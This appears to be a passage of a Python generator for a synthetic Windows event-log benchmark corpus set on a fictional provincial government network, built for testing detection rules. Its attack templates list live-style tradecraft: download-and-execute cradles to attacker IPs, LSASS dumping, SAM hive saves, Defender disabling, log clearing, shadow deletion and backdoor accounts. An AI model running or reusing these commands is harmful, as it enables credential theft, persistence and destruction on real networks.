"""A seeded corpus of Windows events for benchmarks: the everyday noise of a provincial network plus some attacks.

Events are flat dicts of strings with the native Sysmon / Security / PowerShell field names, as the EVTX
reader yields them, so detection sees what it would see in production. About 0.5% of events carry real
attacker tradecraft (encoded PowerShell, comsvcs MiniDump, certutil downloads, hive saves, log clearing,
...) so that a realistic share of SigmaHQ rules fires; the rest is drawn from pools of ordinary activity.
The same seed gives the same events, and the first K events do not depend on how many are asked for, so
a baseline run on fewer events sees exactly the head of the corpus.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from itertools import islice
from pathlib import Path
from typing import Any

import pyarrow as pa

from socpipe.events import WINDOWS, event_identity

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SECURITY = "Security"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
PROVIDERS = {SYSMON: "Microsoft-Windows-Sysmon", SECURITY: "Microsoft-Windows-Security-Auditing",
             POWERSHELL: "Microsoft-Windows-PowerShell"}

# (Channel, EventID) -> share of the corpus; process creation is the bulk, as in real Sysmon feeds.
EVENT_TYPES: dict[tuple[str, str], float] = {
    (SYSMON, "1"): 0.40,
    (SYSMON, "3"): 0.10,
    (SYSMON, "7"): 0.10,
    (SYSMON, "11"): 0.08,
    (SYSMON, "13"): 0.08,
    (SYSMON, "22"): 0.07,
    (SYSMON, "10"): 0.03,
    (SECURITY, "4624"): 0.05,
    (SECURITY, "4625"): 0.01,
    (SECURITY, "4688"): 0.04,
    (SECURITY, "4720"): 0.0005,
    (POWERSHELL, "4104"): 0.0395,
}
SUSPICIOUS_RATE = 0.005
CHUNK = 4096  # event types are drawn with one choices() call per chunk: cheaper than one call per event
START = datetime(2025, 3, 10, tzinfo=UTC)
MEAN_GAP_US = 100_000  # ~10 events/s over the whole network: 1M events span a bit more than a day

DOMAIN = "ANKHANH"
FQDN = "ankhanh.gov.vn"
DOMAIN_SID = "S-1-5-21-3623811015-3361044348-30300820"
# Departments (sở, ban, ngành) of the provincial People's Committee.
DEPARTMENTS = ("vpubnd", "sotc", "sonv", "sotttt", "soyt", "sogddt", "sokhdt", "sotnmt", "sotp", "soldtbxh",
               "sogtvt", "soxd")
SERVERS = ("srv-dc01", "srv-dc02", "srv-file01", "srv-mail01", "srv-web01", "srv-sql01", "srv-wsus01", "srv-av01")
FAMILY = ("nguyen", "tran", "le", "pham", "hoang", "huynh", "phan", "vu", "vo", "dang", "bui", "do", "ho", "ngo",
          "duong", "ly")
MIDDLE = ("van", "thi", "huu", "duc", "minh", "quoc", "ngoc", "thanh", "xuan", "kim")
GIVEN = ("an", "binh", "cuong", "dung", "giang", "ha", "hai", "hanh", "hieu", "hoa", "hung", "huong", "khanh",
         "lan", "linh", "long", "mai", "nam", "nga", "phuong", "quang", "son", "tam", "thao", "trang", "tuan",
         "vinh", "yen")
DOCUMENTS = ("BaoCao_Q1_2025", "KeHoach_2025", "Quyết định 125-QĐ-UBND", "Công văn 345-STC", "DuToan_NganSach",
             "To_trinh_UBND", "BienBan_HopGiaoBan", "DanhSach_CanBo", "ThongBao_LichTruc", "Báo cáo tháng 3",
             "HopDong_MuaSam", "QuyChe_ANTT", "KetQua_ThanhTra", "BangLuong_T3")
SYSTEM, LOCAL_SERVICE, NETWORK_SERVICE = "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE", \
    "NT AUTHORITY\\NETWORK SERVICE"
SERVICE_LOGON_IDS = {SYSTEM: "0x3e7", LOCAL_SERVICE: "0x3e5", NETWORK_SERVICE: "0x3e4"}
LABELS = {"Low": "S-1-16-4096", "Medium": "S-1-16-8192", "High": "S-1-16-12288", "System": "S-1-16-16384"}
SYS32 = "C:\\Windows\\System32\\"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
POWERSHELL_EXE = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
ATTACKER_IPS = ("45.76.180.12", "103.56.53.120", "185.225.74.51", "194.26.29.113")
C2 = "http://45.76.180.12"


@dataclass(frozen=True, slots=True)
class Program:
    image: str
    original: str
    description: str
    product: str
    company: str
    version: str


def _ms(image: str, original: str, description: str, version: str = "10.0.19041.1 (WinBuild.160101.0800)",
        product: str = "Microsoft® Windows® Operating System") -> Program:
    return Program(image, original, description, product, "Microsoft Corporation", version)


PROGRAMS: dict[str, Program] = {p.image.rsplit("\\", 1)[1].lower(): p for p in (
    _ms(SYS32 + "svchost.exe", "svchost.exe", "Host Process for Windows Services"),
    _ms(SYS32 + "services.exe", "services.exe", "Services and Controller app"),
    _ms(SYS32 + "userinit.exe", "USERINIT.EXE", "Userinit Logon Application"),
    _ms("C:\\Windows\\explorer.exe", "EXPLORER.EXE", "Windows Explorer"),
    _ms(SYS32 + "conhost.exe", "CONHOST.EXE", "Console Window Host"),
    _ms(SYS32 + "cmd.exe", "Cmd.Exe", "Windows Command Processor"),
    _ms(POWERSHELL_EXE, "PowerShell.EXE", "Windows PowerShell"),
    _ms(SYS32 + "RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker"),
    _ms(SYS32 + "backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host"),
    _ms(SYS32 + "SearchIndexer.exe", "SearchIndexer.exe", "Microsoft Windows Search Indexer"),
    _ms(SYS32 + "SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"),
    _ms(SYS32 + "dllhost.exe", "dllhost.exe", "COM Surrogate"),
    _ms(SYS32 + "wbem\\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host"),
    _ms(SYS32 + "taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks"),
    _ms(SYS32 + "smartscreen.exe", "smartscreen.exe", "Windows Defender SmartScreen"),
    _ms(SYS32 + "ctfmon.exe", "CTFMON.EXE", "CTF Loader"),
    _ms(SYS32 + "sihost.exe", "sihost.exe", "Shell Infrastructure Host"),
    _ms(SYS32 + "msiexec.exe", "msiexec.exe", "Windows® installer", "5.0.19041.3636 (WinBuild.160101.0800)"),
    _ms(SYS32 + "consent.exe", "consent.exe", "Consent UI for administrative applications"),
    _ms(SYS32 + "notepad.exe", "NOTEPAD.EXE", "Notepad"),
    _ms(SYS32 + "CompatTelRunner.exe", "CompatTelRunner.exe", "Microsoft Compatibility Telemetry"),
    _ms(SYS32 + "wermgr.exe", "wermgr.exe", "Windows Problem Reporting"),
    _ms(SYS32 + "sppsvc.exe", "sppsvc.exe", "Microsoft Software Protection Platform Service"),
    _ms(SYS32 + "gpupdate.exe", "GPUpdate.exe", "Microsoft® Windows Group Policy Update Utility"),
    _ms(SYS32 + "net.exe", "net.exe", "Net Command"),
    _ms(SYS32 + "PING.EXE", "ping.exe", "TCP/IP Ping Command"),
    _ms(SYS32 + "ipconfig.exe", "ipconfig.exe", "IP Configuration Utility"),
    _ms(SYS32 + "winlogon.exe", "WINLOGON.EXE", "Windows Logon Application"),
    _ms("C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.3745_none_"
        "7e1b49b1a5d8a2f1\\TiWorker.exe", "TiWorker.exe", "Windows Modules Installer Worker"),
    _ms("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MsMpEng.exe", "MsMpEng.exe",
        "Antimalware Service Executable", "4.18.24020.7 (WinBuild.160101.0800)",
        "Microsoft® Windows® Operating System"),
    _ms("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe", "MpCmdRun.exe",
        "Microsoft Malware Protection Command Line Utility", "4.18.24020.7 (WinBuild.160101.0800)"),
    _ms(OFFICE + "WINWORD.EXE", "WinWord.exe", "Microsoft Word", "16.0.17328.20162", "Microsoft Office"),
    _ms(OFFICE + "EXCEL.EXE", "Excel.exe", "Microsoft Excel", "16.0.17328.20162", "Microsoft Office"),
    _ms(OFFICE + "POWERPNT.EXE", "POWERPNT.EXE", "Microsoft PowerPoint", "16.0.17328.20162", "Microsoft Office"),
    _ms(OFFICE + "OUTLOOK.EXE", "Outlook.exe", "Microsoft Outlook", "16.0.17328.20162", "Microsoft Office"),
    _ms(EDGE, "msedge.exe", "Microsoft Edge", "122.0.2365.80", "Microsoft Edge"),
    _ms("C:\\Users\\Public\\OneDrive.exe", "OneDrive.exe", "Microsoft OneDrive", "24.030.0211.0002",
        "Microsoft OneDrive"),
    _ms("C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", "msedgeupdate.dll",
        "Microsoft Edge Update", "1.3.185.17", "Microsoft Edge Update"),
    _ms("C:\\Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe",
        "ms-teams.exe", "Microsoft Teams", "24033.811.2738.2546", "Microsoft Teams"),
    Program(CHROME, "chrome.exe", "Google Chrome", "Google Chrome", "Google LLC", "122.0.6261.112"),
    Program("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "GoogleUpdate.exe", "Google Installer",
            "Google Update", "Google LLC", "1.3.36.372"),
    Program("C:\\Program Files\\CocCoc\\Browser\\Application\\browser.exe", "browser.exe", "Cốc Cốc",
            "Cốc Cốc", "Coc Coc Company Limited", "121.0.6167.192"),
    Program("C:\\Program Files\\Zalo\\Zalo.exe", "Zalo.exe", "Zalo", "Zalo", "VNG Corporation", "24.3.1"),
    Program("C:\\Program Files\\UniKey\\UniKeyNT.exe", "UniKeyNT.exe", "UniKey Vietnamese Keyboard", "UniKey",
            "Pham Kim Long", "4.3.0.0"),
    Program("C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe", "Acrobat.exe", "Adobe Acrobat",
            "Adobe Acrobat", "Adobe Systems Incorporated", "24.1.20643.0"),
    Program("C:\\Program Files (x86)\\VNPT-CA\\VnptCaPlugin\\VnptCaPlugin.exe", "VnptCaPlugin.exe",
            "VNPT-CA Signing Plugin", "VNPT-CA Plugin", "VNPT", "2.0.8.1"),
    Program("C:\\Program Files\\7-Zip\\7zFM.exe", "7zFM.exe", "7-Zip File Manager", "7-Zip", "Igor Pavlov", "23.01"),
    # Attacker tooling: LOLBins and a few tools dropped on disk.
    _ms(SYS32 + "rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)"),
    _ms(SYS32 + "certutil.exe", "CertUtil.exe", "CertUtil.exe"),
    _ms(SYS32 + "reg.exe", "reg.exe", "Registry Console Tool"),
    _ms(SYS32 + "wevtutil.exe", "wevtutil.exe", "Eventing Command Line Utility"),
    _ms(SYS32 + "whoami.exe", "whoami.exe", "whoami - displays logged on user information"),
    _ms(SYS32 + "mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host", "11.00.19041.1"),
    _ms(SYS32 + "vssadmin.exe", "VSSADMIN.EXE", "Command Line Interface for Microsoft® Volume Shadow Copy Service"),
    _ms(SYS32 + "schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool"),
    _ms(SYS32 + "bitsadmin.exe", "bitsadmin.exe", "BITS administration utility"),
    _ms(SYS32 + "wbem\\WMIC.exe", "wmic.exe", "WMI Commandline Utility"),
    _ms(SYS32 + "regsvr32.exe", "REGSVR32.EXE", "Microsoft(C) Register Server"),
    _ms(SYS32 + "bcdedit.exe", "bcdedit.exe", "Boot Configuration Data Editor"),
    _ms(SYS32 + "nltest.exe", "nltestrk.exe", "Microsoft® Logon Server Test Utility"),
    _ms(SYS32 + "wscript.exe", "wscript.exe", "Microsoft ® Windows Based Script Host", "5.812.10240.16384"),
    _ms(SYS32 + "ntdsutil.exe", "ntdsutil.exe", "NT5DS"),
    _ms(SYS32 + "sc.exe", "sc.exe", "Service Control Manager Configuration Tool"),
    _ms(SYS32 + "netsh.exe", "netsh.exe", "Network Command Shell"),
    _ms(SYS32 + "curl.exe", "curl.exe", "The curl executable", "8.4.0", "The curl executable"),
    _ms(SYS32 + "systeminfo.exe", "sysinfo.exe", "Displays system information"),
    Program("C:\\Users\\Public\\procdump64.exe", "procdump", "Sysinternals process dump utility",
            "ProcDump", "Sysinternals - www.sysinternals.com", "11.0"),
    Program("C:\\Users\\Public\\PsExec64.exe", "psexec.exe", "Execute processes remotely", "Sysinternals PsExec",
            "Sysinternals - www.sysinternals.com", "2.43"),
    Program("C:\\Users\\Public\\m.exe", "mimikatz.exe", "mimikatz for Windows", "mimikatz",
            "gentilkiwi (Benjamin DELPY)", "2.2.0.0"),
    Program("C:\\Users\\Public\\AdFind.exe", "AdFind.exe", "Joeware ADFind", "AdFind", "www.joeware.net",
            "1.57.0.0"),
    Program("C:\\Program Files\\WinRAR\\Rar.exe", "Rar.exe", "Command line RAR", "WinRAR", "Alexander Roshal",
            "6.24.0"),
)}

# Parent image -> its command line, for ParentCommandLine.
PARENT_COMMANDS = {
    "services.exe": "C:\\Windows\\system32\\services.exe",
    "userinit.exe": "C:\\Windows\\system32\\userinit.exe",
    "explorer.exe": "C:\\Windows\\Explorer.EXE",
    "svchost.exe": "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
    "searchindexer.exe": "C:\\Windows\\system32\\SearchIndexer.exe /Embedding",
    "chrome.exe": f'"{CHROME}" ',
    "msedge.exe": f'"{EDGE}" --no-startup-window --win-session-start',
    "cmd.exe": 'C:\\Windows\\system32\\cmd.exe /c "C:\\ProgramData\\ankhanh\\logon\\map_drives.cmd"',
    "powershell.exe": f'"{POWERSHELL_EXE}" ',
    "winword.exe": f'"{OFFICE}WINWORD.EXE" /n "C:\\Users\\{{u}}\\Downloads\\{{doc}}.docm" /o ""',
    "outlook.exe": f'"{OFFICE}OUTLOOK.EXE" ',
    "excel.exe": f'"{OFFICE}EXCEL.EXE" "C:\\Users\\{{u}}\\Downloads\\{{doc}}.xlsm"',
    "wmiprvse.exe": "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
    "zalo.exe": '"C:\\Program Files\\Zalo\\Zalo.exe" ',
    "7zfm.exe": '"C:\\Program Files\\7-Zip\\7zFM.exe" ',
    "winlogon.exe": "winlogon.exe",
}


@dataclass(frozen=True, slots=True)
class Launch:
    """A way a program is started: command line templates ({u} user, {d} department, {doc}, {n}), parents, account."""

    program: str
    commands: tuple[str, ...]
    parents: tuple[str, ...]
    account: str  # "user", "admin", or a service account name
    integrity: str
    weight: float = 1.0


def _svchost(*groups: str) -> tuple[str, ...]:
    return tuple(f"C:\\Windows\\system32\\svchost.exe -k {g}" for g in groups)


BENIGN_LAUNCHES = (
    Launch("svchost.exe", _svchost("netsvcs -p -s Schedule", "LocalServiceNetworkRestricted -p -s EventLog",
                                   "DcomLaunch -p", "NetworkService -p -s Dnscache", "netsvcs -p -s wuauserv",
                                   "LocalSystemNetworkRestricted -p -s SysMain", "netsvcs -p -s BITS",
                                   "appmodel -p -s StateRepository", "wsappx -p -s AppXSvc", "utcsvc -p",
                                   "LocalService -p -s BthAvctpSvc", "UnistackSvcGroup -s CDPUserSvc"),
           ("services.exe",), SYSTEM, "System", 10),
    Launch("svchost.exe", _svchost("LocalServiceNoNetworkFirewall -p", "LocalService -p -s nsi",
                                   "LocalServiceNetworkRestricted -p -s Dhcp"),
           ("services.exe",), LOCAL_SERVICE, "System", 3),
    Launch("svchost.exe", _svchost("NetworkService -p -s CryptSvc", "NetworkService -p -s LanmanWorkstation"),
           ("services.exe",), NETWORK_SERVICE, "System", 2),
    Launch("chrome.exe", (
        f'"{CHROME}" --type=renderer --lang=vi --device-scale-factor=1 --num-raster-threads=4 '
        "--enable-main-frame-before-activation --renderer-client-id={n} --time-ticks-at-unix-epoch=-1710028800 "
        "--launch-time-ticks=1826374 --field-trial-handle=1948,i,16077093420358521457,"
        "8218731539785611263,262144 --variations-seed-version /prefetch:1",
        f'"{CHROME}" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=vi '
        "--service-sandbox-type=none --field-trial-handle=1948,i,16077093420358521457,"
        "8218731539785611263,262144 --variations-seed-version /prefetch:3",
        f'"{CHROME}" --type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAAAAAA4AAAAAAAAAAAAAAA'
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --field-trial-handle=1948,i,"
        "16077093420358521457,8218731539785611263,262144 --variations-seed-version /prefetch:2",
        f'"{CHROME}" ',
        f'"{CHROME}" https://dichvucong.gov.vn/p/home/dvc-trang-chu.html',
        f'"{CHROME}" https://qlvb.{FQDN}/van-ban-den'),
           ("chrome.exe", "chrome.exe", "chrome.exe", "explorer.exe"), "user", "Medium", 12),
    Launch("msedge.exe", (
        f'"{EDGE}" --type=renderer --lang=vi --js-flags=--ms-user-locale= --device-scale-factor=1 '
        "--num-raster-threads=4 --renderer-client-id={n} /prefetch:1",
        f'"{EDGE}" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=vi '
        "--service-sandbox-type=none /prefetch:3",
        f'"{EDGE}" --single-argument https://mail.{FQDN}/owa/'),
           ("msedge.exe", "msedge.exe", "explorer.exe"), "user", "Medium", 6),
    Launch("browser.exe", ('"C:\\Program Files\\CocCoc\\Browser\\Application\\browser.exe" --type=renderer '
                           "--lang=vi --renderer-client-id={n} /prefetch:1",
                           '"C:\\Program Files\\CocCoc\\Browser\\Application\\browser.exe" '),
           ("explorer.exe",), "user", "Medium", 3),
    Launch("winword.exe", (f'"{OFFICE}WINWORD.EXE" /n "C:\\Users\\{{u}}\\Documents\\{{doc}}.docx" /o ""',
                           f'"{OFFICE}WINWORD.EXE" /n "\\\\srv-file01.{FQDN}\\{{d}}\\VanBan\\{{doc}}.docx" /o ""'),
           ("explorer.exe", "outlook.exe"), "user", "Medium", 3),
    Launch("excel.exe", (f'"{OFFICE}EXCEL.EXE" "C:\\Users\\{{u}}\\Documents\\{{doc}}.xlsx"',
                         f'"{OFFICE}EXCEL.EXE" /dde'),
           ("explorer.exe",), "user", "Medium", 2),
    Launch("powerpnt.exe", (f'"{OFFICE}POWERPNT.EXE" "C:\\Users\\{{u}}\\Desktop\\{{doc}}.pptx"',),
           ("explorer.exe",), "user", "Medium", 0.5),
    Launch("outlook.exe", (f'"{OFFICE}OUTLOOK.EXE" ',), ("explorer.exe",), "user", "Medium", 1),
    Launch("conhost.exe", ("\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",),
           ("cmd.exe", "powershell.exe"), "user", "Medium", 4),
    Launch("runtimebroker.exe", ("C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",),
           ("svchost.exe",), "user", "Medium", 3),
    Launch("backgroundtaskhost.exe", (
        '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider',
        '"C:\\Windows\\system32\\BackgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kmq4xrfsfd3j3f4.mca'),
           ("svchost.exe",), "user", "Low", 2),
    Launch("searchprotocolhost.exe", (
        '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}_ '
        "Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \"Software\\Microsoft\\Windows Search\" "
        '"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" '
        '"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"',),
           ("searchindexer.exe",), SYSTEM, "System", 3),
    Launch("dllhost.exe", ("C:\\Windows\\system32\\DllHost.exe /Processid:{{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}}",
                           "C:\\Windows\\system32\\DllHost.exe /Processid:{{3EB3C877-1F16-487C-9050-104DBCD66683}}"),
           ("svchost.exe",), "user", "Medium", 2),
    Launch("wmiprvse.exe", ("C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",),
           ("svchost.exe",), NETWORK_SERVICE, "System", 2),
    Launch("taskhostw.exe", ("taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}", "taskhostw.exe -RegisterDevice "
                             "-ProtectionStateChanged -FreeNetworkOnly", "taskhostw.exe"),
           ("svchost.exe",), "user", "Medium", 2),
    Launch("smartscreen.exe", ("C:\\Windows\\System32\\smartscreen.exe -Embedding",), ("svchost.exe",),
           "user", "Medium", 1),
    Launch("ctfmon.exe", ('"ctfmon.exe"',), ("svchost.exe",), "user", "Medium", 0.5),
    Launch("sihost.exe", ("sihost.exe",), ("svchost.exe",), "user", "Medium", 0.3),
    Launch("explorer.exe", ("C:\\Windows\\Explorer.EXE",), ("userinit.exe",), "user", "Medium", 0.3),
    Launch("userinit.exe", ("C:\\Windows\\system32\\userinit.exe",), ("winlogon.exe",), "user", "Medium", 0.3),
    Launch("mpcmdrun.exe", ('"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe"'
                            " SignatureUpdate -ScheduleJob -RestrictPrivileges",
                            '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe"'
                            " -wdenable"),
           ("svchost.exe",), SYSTEM, "System", 0.7),
    Launch("onedrive.exe", ('"C:\\Users\\Public\\OneDrive.exe" /background',), ("explorer.exe",), "user", "Medium",
           0.5),
    Launch("ms-teams.exe", ('"C:\\Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe'
                            '\\ms-teams.exe" msteams:system-initiated',), ("explorer.exe",), "user", "Medium", 1),
    Launch("zalo.exe", ('"C:\\Program Files\\Zalo\\Zalo.exe" ', '"C:\\Program Files\\Zalo\\Zalo.exe" --type=renderer '
                        "--user-data-dir=\"C:\\Users\\{u}\\AppData\\Roaming\\ZaloPC\" --app-path=\"C:\\Program "
                        'Files\\Zalo\\resources\\app.asar" --lang=vi --renderer-client-id={n} /prefetch:1'),
           ("explorer.exe", "zalo.exe"), "user", "Medium", 3),
    Launch("unikeynt.exe", ('"C:\\Program Files\\UniKey\\UniKeyNT.exe" ',), ("explorer.exe",), "user", "Medium", 0.5),
    Launch("acrobat.exe", ('"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe" '
                           '"C:\\Users\\{u}\\Downloads\\{doc}.pdf"',), ("explorer.exe", "chrome.exe", "outlook.exe"),
           "user", "Medium", 2),
    Launch("vnptcaplugin.exe", ('"C:\\Program Files (x86)\\VNPT-CA\\VnptCaPlugin\\VnptCaPlugin.exe" ',),
           ("explorer.exe",), "user", "Medium", 0.5),
    Launch("7zfm.exe", ('"C:\\Program Files\\7-Zip\\7zFM.exe" "C:\\Users\\{u}\\Downloads\\{doc}.zip"',),
           ("explorer.exe",), "user", "Medium", 0.3),
    Launch("notepad.exe", ('"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\{u}\\Desktop\\ghichu.txt',),
           ("explorer.exe",), "user", "Medium", 1),
    Launch("cmd.exe", ('C:\\Windows\\system32\\cmd.exe /c "C:\\ProgramData\\ankhanh\\logon\\map_drives.cmd"',
                       f'C:\\Windows\\system32\\cmd.exe /c ""\\\\{FQDN}\\SysVol\\{FQDN}\\scripts\\logon.bat" "'),
           ("explorer.exe",), "user", "Medium", 1.5),
    Launch("net.exe", (f"net  use S: \\\\srv-file01.{FQDN}\\{{d}} /persistent:yes",), ("cmd.exe",), "user",
           "Medium", 0.1),
    Launch("powershell.exe", (f'"{POWERSHELL_EXE}" ', f'"{POWERSHELL_EXE}" -NoProfile -NonInteractive -Command '
                              '"Get-Service -Name Spooler | Select-Object Status"'),
           ("explorer.exe",), "user", "Medium", 0.7),
    Launch("msiexec.exe", ("C:\\Windows\\system32\\msiexec.exe /V",
                           "C:\\Windows\\System32\\MsiExec.exe -Embedding 6F3B7A2C1E4D5B8A9C0D1E2F3A4B5C6D"),
           ("services.exe",), SYSTEM, "System", 0.7),
    Launch("tiworker.exe", (PROGRAMS["tiworker.exe"].image + " -Embedding",), ("svchost.exe",), SYSTEM, "System", 0.4),
    Launch("compattelrunner.exe", ("C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll "
                                   "-f:DoScheduledTelemetryRun -cv:0H3JhYwXk0m8wV8G.2",),
           ("svchost.exe",), SYSTEM, "System", 0.3),
    Launch("wermgr.exe", ('"C:\\Windows\\system32\\wermgr.exe" -upload',), ("svchost.exe",), SYSTEM, "System", 0.3),
    Launch("sppsvc.exe", ("C:\\Windows\\system32\\sppsvc.exe",), ("services.exe",), NETWORK_SERVICE, "System", 0.3),
    Launch("gpupdate.exe", ("gpupdate.exe /target:computer",), ("svchost.exe",), SYSTEM, "System", 0.2),
    Launch("consent.exe", ("consent.exe {n} 288 000001F2A3B4C5D0",), ("svchost.exe",), SYSTEM, "System", 0.2),
    Launch("googleupdate.exe", ('"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /ua /installsource '
                                "scheduler",), ("svchost.exe",), SYSTEM, "System", 0.4),
    Launch("microsoftedgeupdate.exe", ('"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /c',),
           ("svchost.exe",), SYSTEM, "System", 0.4),
    Launch("ping.exe", (f"ping  srv-file01.{FQDN}",), ("cmd.exe",), "user", "Medium", 0.2),
    Launch("ipconfig.exe", ("ipconfig  /all", "ipconfig /flushdns"), ("cmd.exe",), "admin", "High", 0.1),
)


def _encoded(script: str) -> str:
    """PowerShell -EncodedCommand text: base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


TEMP = "C:\\Users\\{u}\\AppData\\Local\\Temp"
ENCODED = _encoded(f"IEX (New-Object Net.WebClient).DownloadString('{C2}/a')")
ATTACK_LAUNCHES = (
    Launch("powershell.exe", (
        f"powershell.exe -nop -w hidden -enc {ENCODED}",
        "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command \"IEX (New-Object System.Net.WebClient)"
        f".DownloadString('{C2}/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds\"",
        'powershell.exe -ep bypass -c "Set-MpPreference -DisableRealtimeMonitoring $true"',
        f"powershell.exe -w hidden -c \"iwr {C2}/s.exe -OutFile {TEMP}\\s.exe; & {TEMP}\\s.exe\""),
           ("winword.exe", "cmd.exe", "wmiprvse.exe"), "user", "Medium"),
    Launch("rundll32.exe", ("rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {n} C:\\Windows\\Temp\\"
                            "debug.bin full",), ("cmd.exe",), "admin", "High"),
    Launch("certutil.exe", (f"certutil.exe -urlcache -split -f {C2}/update.exe C:\\Users\\Public\\update.exe",
                            "certutil -decode C:\\Users\\Public\\b.txt C:\\Users\\Public\\b.exe"),
           ("cmd.exe",), "user", "Medium"),
    Launch("reg.exe", ("reg.exe save hklm\\sam C:\\Windows\\Temp\\sam.save", "reg  save HKLM\\SYSTEM "
                       "C:\\Windows\\Temp\\system.save", 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\'
                       'SecurityProviders\\WDigest" /v UseLogonCredential /t REG_DWORD /d 1 /f'),
           ("cmd.exe",), "admin", "High"),
    Launch("wevtutil.exe", ("wevtutil.exe cl Security", "wevtutil  cl System", "wevtutil cl \"Windows PowerShell\""),
           ("cmd.exe", "powershell.exe"), "admin", "High"),
    Launch("whoami.exe", ("whoami /all", "whoami.exe /priv", "whoami /groups"), ("cmd.exe", "powershell.exe"),
           "user", "Medium"),
    Launch("mshta.exe", ("mshta.exe http://185.225.74.51/payload.hta", 'mshta vbscript:Execute("CreateObject(""Wscript.'
                         'Shell"").Run ""powershell -nop -w hidden -c iex(iwr http://185.225.74.51/a)"", 0:close")'),
           ("explorer.exe", "winword.exe"), "user", "Medium"),
    Launch("vssadmin.exe", ("vssadmin.exe delete shadows /all /quiet", "vssadmin  resize shadowstorage /for=c: /on=c: "
                            "/maxsize=401MB"), ("cmd.exe",), "admin", "High"),
    Launch("net.exe", ("net user supportsvc P@ssw0rd!2025 /add", "net localgroup administrators supportsvc /add",
                       'net group "Domain Admins" /domain', "net  view \\\\srv-file01 /all"),
           ("cmd.exe",), "admin", "High"),
    Launch("schtasks.exe", ('schtasks /create /sc minute /mo 15 /tn "\\Microsoft\\Windows\\WindowsUpdate\\Updater" '
                            '/tr "C:\\Users\\Public\\update.exe" /ru SYSTEM /f',), ("cmd.exe",), "admin", "High"),
    Launch("bitsadmin.exe", (f"bitsadmin /transfer myjob /download /priority high {C2}/p.exe "
                             "C:\\Users\\Public\\p.exe",), ("cmd.exe",), "user", "Medium"),
    Launch("wmic.exe", ("wmic shadowcopy delete", 'wmic /node:10.21.1.15 process call create "cmd.exe /c '
                        'C:\\Users\\Public\\update.exe"'), ("cmd.exe",), "admin", "High"),
    Launch("regsvr32.exe", (f"regsvr32.exe /s /n /u /i:{C2}/file.sct scrobj.dll",), ("cmd.exe", "winword.exe"),
           "user", "Medium"),
    Launch("bcdedit.exe", ("bcdedit.exe /set {{default}} recoveryenabled No",
                           "bcdedit /set {{default}} bootstatuspolicy ignoreallfailures"), ("cmd.exe",), "admin",
           "High"),
    Launch("nltest.exe", ("nltest /domain_trusts /all_trusts", f"nltest /dclist:{FQDN}"), ("cmd.exe",), "user",
           "Medium"),
    Launch("wscript.exe", ('"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\{u}\\Downloads\\HoaDon_VAT_032025.js"',),
           ("explorer.exe", "7zfm.exe"), "user", "Medium"),
